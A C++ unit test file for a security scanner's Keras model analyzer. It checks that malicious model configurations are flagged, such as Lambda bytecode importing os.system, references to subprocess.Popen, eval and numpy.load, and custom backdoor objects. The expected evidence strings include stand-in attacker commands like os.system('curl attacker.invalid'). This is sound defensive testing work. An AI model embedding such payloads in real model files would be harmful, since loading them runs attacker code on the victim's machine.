// Tests of the Keras configuration analyzer on the fixtures of tests/fixtures/{clean,malicious}/
// keras (made by tests/fixtures/keras/make_fixtures.py): configurations in the shapes Keras 2
// and Keras 3 write, reached through .keras archives, .h5 attributes and plain JSON files.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "engine/analyzer.h"
#include "engine/engine.h"
#include "engine/scan_context.h"
#include "support/findings.h"
#include "support/test_paths.h"

namespace mg {
namespace {

using test::WithRule;

Target Scan(const std::string& relative) {
  return ScanFile((test::FixturesDir() / relative).string(), Limits{});
}

Target ScanText(std::string_view name, std::string_view json) {
  Target target;
  target.path = std::string(name);
  ScanContext ctx(target, Limits{});
  target.format = AnalyzeBuffer(ctx, ByteView(json));
  return target;
}

Severity MaxSeverity(const Target& target) {
  Severity max = Severity::kInfo;
  for (const auto& finding : target.findings) max = std::max(max, finding.severity);
  return max;
}

const Finding* OnlyOne(const Target& target, std::string_view rule) {
  const auto found = WithRule(target, rule);
  EXPECT_EQ(found.size(), 1u) << rule;
  return found.size() == 1 ? found[0] : nullptr;
}

void ExpectClean(const std::string& relative, std::string_view format) {
  const Target target = Scan(relative);
  EXPECT_EQ(target.format, format) << relative;
  EXPECT_EQ(target.status, TargetStatus::kComplete) << relative;
  for (const auto& finding : target.findings) {
    // The saving Keras release may have advisories (low, KerasVersionAdvisory below).
    if (finding.rule == "KERAS-VERSION-ADVISORY") continue;
    EXPECT_EQ(finding.severity, Severity::kInfo)
        << relative << ": " << finding.rule << " " << finding.message << " " << finding.evidence;
  }
}

TEST(KerasAnalyzerTest, CleanModelsHaveOnlyInformation) {
  ExpectClean("clean/keras/sequential.keras", "zip");
  ExpectClean("clean/keras/functional_nested.keras", "zip");
  ExpectClean("clean/keras/functional_architecture.json", "keras");
  ExpectClean("clean/keras/keras2_architecture.json", "keras");
}

TEST(KerasAnalyzerTest, ArchiveMembersReachTheKerasAnalyzer) {
  const Target target = Scan("clean/keras/sequential.keras");
  const Finding* version = OnlyOne(target, "KERAS-VERSION");
  ASSERT_NE(version, nullptr);
  EXPECT_EQ(version->location.member, std::vector<std::string>{"metadata.json"});
  EXPECT_EQ(version->evidence, "keras_version '3.6.0'");
}

// keras_version against the advisory list: 3.6.0 (the fixture's) is in the ranges of the
// safe_mode advisories; the release that fixes them all is named.
TEST(KerasAnalyzerTest, KerasVersionAdvisory) {
  const Target target = Scan("clean/keras/sequential.keras");
  const Finding* advisory = OnlyOne(target, "KERAS-VERSION-ADVISORY");
  ASSERT_NE(advisory, nullptr);
  EXPECT_EQ(advisory->severity, Severity::kLow);
  EXPECT_EQ(advisory->location.member, std::vector<std::string>{"metadata.json"});
  EXPECT_EQ(advisory->evidence, "keras_version '3.6.0'");
  for (const char* id : {"CVE-2025-1550", "CVE-2025-8747", "CVE-2026-1462"}) {
    EXPECT_NE(advisory->message.find(id), std::string::npos) << advisory->message;
  }
  EXPECT_NE(advisory->message.find("all fixed in 3.13.2"), std::string::npos)
      << advisory->message;
  for (const char* version : {"3.13.2", "3.6.0.not-a-version"}) {
    const std::string metadata = std::string(R"({"keras_version": ")") + version + "\"}";
    EXPECT_TRUE(WithRule(ScanText("metadata.json", metadata), "KERAS-VERSION-ADVISORY").empty())
        << version;
  }
}

TEST(KerasAnalyzerTest, Keras3LambdaBytecodeIsDecoded) {
  const Target target = Scan("malicious/keras/lambda_keras3.keras");
  const Finding* lambda = OnlyOne(target, "KERAS-LAMBDA-CODE");
  ASSERT_NE(lambda, nullptr);
  EXPECT_EQ(lambda->severity, Severity::kCritical);
  EXPECT_EQ(lambda->location.member, std::vector<std::string>{"config.json"});
  EXPECT_EQ(lambda->evidence,
            "/config/layers/1/config/function: names: __import__, system; constants: 'os', "
            "'curl attacker.invalid' (Python 3.11+ bytecode)");
}

TEST(KerasAnalyzerTest, SerializedLambdaValueIsDecoded) {
  const Target target = Scan("malicious/keras/lambda_value_keras3.json");
  EXPECT_EQ(target.format, "keras");
  const Finding* lambda = OnlyOne(target, "KERAS-LAMBDA-CODE");
  ASSERT_NE(lambda, nullptr);
  EXPECT_NE(lambda->evidence.find("/config/layers/0/config/activation: names: __import__"),
            std::string::npos)
      << lambda->evidence;
}

TEST(KerasAnalyzerTest, LambdaInsideWrappersInsideANestedModel) {
  const Target target = Scan("malicious/keras/lambda_nested.keras");
  const Finding* lambda = OnlyOne(target, "KERAS-LAMBDA-CODE");
  ASSERT_NE(lambda, nullptr);
  EXPECT_EQ(lambda->evidence.rfind(
                "/config/layers/2/config/layers/1/config/layer/config/layer/config/function:", 0),
            0u)
      << lambda->evidence;
}

TEST(KerasAnalyzerTest, Keras2LambdaList) {
  const Target target = Scan("malicious/keras/lambda_keras2.json");
  const Finding* lambda = OnlyOne(target, "KERAS-LAMBDA-CODE");
  ASSERT_NE(lambda, nullptr);
  EXPECT_NE(lambda->evidence.find("/config/layers/2/config/function: names: __import__, system"),
            std::string::npos)
      << lambda->evidence;
}

TEST(KerasAnalyzerTest, DangerousModuleReferences) {
  struct Case {
    const char* path;
    const char* evidence;
  };
  for (const Case& c : {
           Case{"malicious/keras/function_os_system.keras",
                "/config/layers/1/config/function: os.system"},
           Case{"malicious/keras/class_subprocess_popen.json",
                "/config/layers/0: module 'subprocess', class_name 'Popen'"},
           Case{"malicious/keras/builtins_eval_activation.keras",
                "/config/layers/0/config/activation: builtins.eval"},
           Case{"malicious/keras/nested_module.keras",
                "/config/layers/2/config/layers/1/config/kernel_initializer: module "
                "'subprocess', class_name 'getoutput'"},
           Case{"malicious/keras/keras2_function_os.json",
                "/config/layers/1/config/function: os.system"},
       }) {
    const Target target = Scan(c.path);
    const Finding* finding = OnlyOne(target, "KERAS-DANGEROUS-REFERENCE");
    ASSERT_NE(finding, nullptr) << c.path;
    EXPECT_EQ(finding->severity, Severity::kCritical);
    EXPECT_EQ(finding->evidence, c.evidence) << c.path;
  }
}

TEST(KerasAnalyzerTest, CustomObjectsGadgetsAndSavedModels) {
  const Target custom = Scan("malicious/keras/custom_registered.keras");
  const Finding* object = OnlyOne(custom, "KERAS-CUSTOM-OBJECT");
  ASSERT_NE(object, nullptr);
  EXPECT_EQ(object->severity, Severity::kHigh);
  EXPECT_NE(object->evidence.find("registered_name 'evil_pkg>Backdoor'"), std::string::npos);

  const Target gadget = Scan("malicious/keras/keras_load_model_gadget.keras");
  const Finding* load = OnlyOne(gadget, "KERAS-UNSAFE-KERAS-FUNCTION");
  ASSERT_NE(load, nullptr);
  EXPECT_EQ(load->evidence, "/config/layers/1/config/function: keras.models.load_model");

  const Target tfsm = Scan("malicious/keras/tfsm_layer.keras");
  const Finding* saved = OnlyOne(tfsm, "KERAS-EXTERNAL-SAVEDMODEL");
  ASSERT_NE(saved, nullptr);
  EXPECT_EQ(saved->evidence, "/config/layers/0: filepath '/tmp/attacker_savedmodel'");
}

TEST(KerasAnalyzerTest, TorchModuleWrapperPayloadGoesBackToTheEngine) {
  const Target real = Scan("malicious/keras/torch_module_wrapper.keras");
  const Finding* wrapper = OnlyOne(real, "KERAS-TORCH-MODULE");
  ASSERT_NE(wrapper, nullptr);
  EXPECT_EQ(wrapper->severity, Severity::kMedium);
  EXPECT_EQ(wrapper->evidence.rfind("/config/layers/1: ", 0), 0u) << wrapper->evidence;
  // torch.save wrote a ZIP whose data.pkl the pickle analyzer read.
  EXPECT_NE(test::AtMember(real, {"config.json", "<TorchModuleWrapper module>", "archive/data.pkl"},
                           "PICKLE-"),
            nullptr);

  const Target evil = Scan("malicious/keras/torch_module_wrapper_os_system.keras");
  const Finding* call =
      test::AtMember(evil, {"config.json", "<TorchModuleWrapper module>"}, "PICKLE-DANGEROUS");
  ASSERT_NE(call, nullptr);
  EXPECT_EQ(call->severity, Severity::kCritical);
  EXPECT_EQ(call->evidence, "os.system('curl attacker.invalid')");
}

TEST(KerasAnalyzerTest, ConfigThatIsNotJsonIsIncomplete) {
  const Target target = Scan("malicious/keras/config_not_json.keras");
  EXPECT_EQ(target.status, TargetStatus::kIncomplete);
  const Finding* malformed = OnlyOne(target, "KERAS-MALFORMED");
  ASSERT_NE(malformed, nullptr);
  EXPECT_EQ(malformed->severity, Severity::kMedium);
  EXPECT_EQ(malformed->location.member, std::vector<std::string>{"config.json"});
}

TEST(KerasAnalyzerTest, SniffingNeedsTopLevelClassNameAndConfig) {
  const Analyzer* keras = FindAnalyzer("keras");
  ASSERT_NE(keras, nullptr);
  const ByteView hf(std::string_view(
      R"({"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 768})"));
  EXPECT_EQ(keras->SniffNamed("config.json", hf), 0);
  // "class_name" nested below the top level is not enough.
  const ByteView nested(std::string_view(
      R"({"quantization_config": {"class_name": "X", "config": {}}, "model_type": "llama"})"));
  EXPECT_EQ(keras->SniffNamed("config.json", nested), 0);
  const ByteView model(std::string_view(R"({"class_name": "Sequential", "config": {}})"));
  EXPECT_EQ(keras->Sniff(model), 80);
  EXPECT_EQ(keras->SniffNamed("dir/config.json", model), 90);
  const ByteView metadata(std::string_view(R"({"keras_version": "3.6.0"})"));
  EXPECT_EQ(keras->SniffNamed("metadata.json", metadata), 80);
  EXPECT_EQ(keras->SniffNamed("other.json", metadata), 0);
  // "class_name" after a value longer than the sniffing window: claimed by name only.
  std::string late = R"({"config": {"layers": [")" + std::string(2 << 20, 'a') +
                     R"("]}, "class_name": "Sequential"})";
  EXPECT_EQ(keras->SniffNamed("model/config.json", ByteView(late)), 50);
  EXPECT_EQ(keras->SniffNamed("tokenizer.json", ByteView(late)), 0);
  const Target target = ScanText("config.json", late);
  EXPECT_EQ(target.format, "keras");
  EXPECT_EQ(target.status, TargetStatus::kComplete);
}

TEST(KerasAnalyzerTest, DuplicateKeysAreReportedAndTheLastValueJudged) {
  const Target target =
      ScanText("model.json",
               R"({"class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", )"
               R"("class_name": "Dense", "module": "os", "config": {}}]}})");
  EXPECT_EQ(target.format, "keras");
  const Finding* duplicate = OnlyOne(target, "KERAS-DUPLICATE-KEY");
  ASSERT_NE(duplicate, nullptr);
  EXPECT_EQ(duplicate->evidence, "/config/layers/0/module repeated");
  // Python keeps the last "module": os.
  EXPECT_EQ(MaxSeverity(target), Severity::kCritical);
  EXPECT_EQ(WithRule(target, "KERAS-DANGEROUS-REFERENCE").size(), 1u);
}

TEST(KerasAnalyzerTest, ExternalAndEcosystemModules) {
  const Target target = ScanText(
      "model.json",
      R"({"class_name": "Functional", "config": {"layers": [)"
      R"({"module": "keras_hub.src.models.gemma", "class_name": "GemmaBackbone", "config": {}},)"
      R"({"module": "keras_evil", "class_name": "Layer", "config": {}},)"
      R"({"module": "keras.layers", "class_name": "Dense", "config": {}},)"
      R"({"module": "numpy", "class_name": "function", "config": "load"},)"
      R"({"module": "jax.nn", "class_name": "function", "config": "gelu"}]}})");
  const auto ecosystem = WithRule(target, "KERAS-ECOSYSTEM-MODULE");
  ASSERT_EQ(ecosystem.size(), 2u);
  EXPECT_EQ(ecosystem[0]->severity, Severity::kLow);
  EXPECT_EQ(ecosystem[1]->evidence, "/config/layers/4: jax.nn.gelu");
  // numpy is a known library, numpy.load a deserializer on the denylist.
  const Finding* load = OnlyOne(target, "KERAS-DANGEROUS-REFERENCE");
  ASSERT_NE(load, nullptr);
  EXPECT_EQ(load->evidence, "/config/layers/3: numpy.load");
  const Finding* external = OnlyOne(target, "KERAS-EXTERNAL-MODULE");
  ASSERT_NE(external, nullptr);
  EXPECT_EQ(external->evidence, "/config/layers/1: module 'keras_evil', class_name 'Layer'");
  EXPECT_EQ(external->severity, Severity::kHigh);
}

TEST(KerasAnalyzerTest, UndecodableLambdaIsStillCritical) {
  const Target target = ScanText(
      "model.json", R"({"class_name": "Lambda", "config": {"function": ["AAAA", null, null], )"
                    R"("function_type": "lambda", "module": "__main__"}})");
  const Finding* lambda = OnlyOne(target, "KERAS-LAMBDA-CODE");
  ASSERT_NE(lambda, nullptr);
  EXPECT_EQ(lambda->severity, Severity::kCritical);
  EXPECT_NE(lambda->evidence.find("/function: undecodable: "), std::string::npos)
      << lambda->evidence;
}

TEST(KerasAnalyzerTest, AnyKeyWithATypeSiblingIsAFunction) {
  // TensorFlow Probability's DistributionLambda stores make_distribution_fn the Lambda way.
  const Target target = ScanText(
      "model.json",
      R"({"class_name": "DistributionLambda", "config": {"make_distribution_fn": "eval", )"
      R"("make_distribution_fn_type": "function", "make_distribution_fn_module": "builtins", )"
      R"("convert_to_tensor_fn_type": "raw"}})");
  const Finding* reference = OnlyOne(target, "KERAS-DANGEROUS-REFERENCE");
  ASSERT_NE(reference, nullptr);
  EXPECT_EQ(reference->evidence, "/config/make_distribution_fn: builtins.eval");
}

TEST(KerasAnalyzerTest, DottedStringNamingADangerousCallable) {
  const Target target = ScanText(
      "model.json", R"({"class_name": "Lambda", "config": {"function": "subprocess.check_output", )"
                    R"("function_type": "raw", "name": "os.path"}})");
  const Finding* string = OnlyOne(target, "KERAS-DANGEROUS-STRING");
  ASSERT_NE(string, nullptr);
  EXPECT_EQ(string->evidence, "/config/function: 'subprocess.check_output'");
}

TEST(KerasAnalyzerTest, NotAnObjectAndTooDeepAreIncomplete) {
  Target target;
  target.path = "model.json";
  {
    ScanContext ctx(target, Limits{});
    AnalyzeBuffer(ctx, ByteView(std::string_view("[1, 2]")), "keras");
  }
  EXPECT_EQ(target.status, TargetStatus::kIncomplete);
  EXPECT_EQ(WithRule(target, "KERAS-MALFORMED").size(), 1u);

  std::string deep = R"({"class_name": "X", "config": )";
  for (int i = 0; i < 200; ++i) deep += "[";
  for (int i = 0; i < 200; ++i) deep += "]";
  deep += "}";
  const Target too_deep = ScanText("model.json", deep);
  EXPECT_EQ(too_deep.status, TargetStatus::kIncomplete);
  EXPECT_EQ(WithRule(too_deep, "KERAS-MALFORMED").size(), 1u);
}

}  // namespace
}  // namespace mg
